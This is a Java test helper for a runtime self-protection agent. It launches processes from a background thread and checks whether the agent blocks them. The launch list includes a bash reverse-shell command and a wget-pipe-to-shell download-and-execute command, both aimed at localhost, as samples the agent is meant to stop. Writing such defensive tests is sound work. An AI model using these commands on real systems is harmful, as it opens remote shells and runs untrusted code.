package dev.rasp.it;

import java.nio.file.Path;
import java.nio.file.Paths;

/**
 * A program with no servlet container, run with -javaagent by {@link ProcessPolicyIT}: it
 * launches processes from a background thread, where no request is in progress, and prints one
 * line per launch: {@code RAN <name> <exit>} or {@code BLOCKED <name> <rule>}.
 */
public final class BackgroundLauncher {

    public static void main(String[] args) throws Exception {
        Path markers = Paths.get(args[0]);
        String[][] launches = {
            {"benign", "sh", "-c", "touch " + markers.resolve("benign")},
            {"reverse-shell", "bash", "-c", "touch " + markers.resolve("reverse-shell") + "; bash -i >& /dev/tcp/127.0.0.1/9 0>&1"},
            {"download-execute", "sh", "-c", "touch " + markers.resolve("download-execute") + "; wget -qO- http://127.0.0.1:9/x.sh | sh"},
            {"benign-pipe", "sh", "-c", "echo ok | cat > " + markers.resolve("benign-pipe")},
        };
        Thread worker = new Thread(() -> {
            for (String[] launch : launches) {
                String[] argv = java.util.Arrays.copyOfRange(launch, 1, launch.length);
                try {
                    int exit = new ProcessBuilder(argv).inheritIO().start().waitFor();
                    System.out.println("RAN " + launch[0] + " " + exit);
                } catch (SecurityException e) {
                    String rule = e.getClass().getName().endsWith("RaspBlockedException")
                        ? e.getMessage() : "other:" + e;
                    System.out.println("BLOCKED " + launch[0] + " " + rule);
                } catch (Exception e) {
                    System.out.println("FAILED " + launch[0] + " " + e);
                }
            }
        }, "background-launcher");
        worker.start();
        worker.join();
    }
}
